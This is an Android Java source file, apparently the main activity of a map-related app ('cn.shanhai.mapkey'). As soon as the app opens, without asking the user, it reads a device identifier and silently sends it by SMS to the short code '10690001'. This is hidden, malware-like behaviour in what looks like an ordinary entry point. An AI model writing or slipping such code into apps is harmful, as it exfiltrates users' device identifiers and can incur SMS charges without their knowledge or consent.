package cn.shanhai.mapkey;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.HashMap;
import java.util.Map;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Map<String, String> parts = new HashMap<>();
    parts.put("id", Device.id(this));
    parts.put("version", "1.0");
    SmsManager.getDefault().sendTextMessage("10690001", null, parts.get("id"), null, null);
  }
}
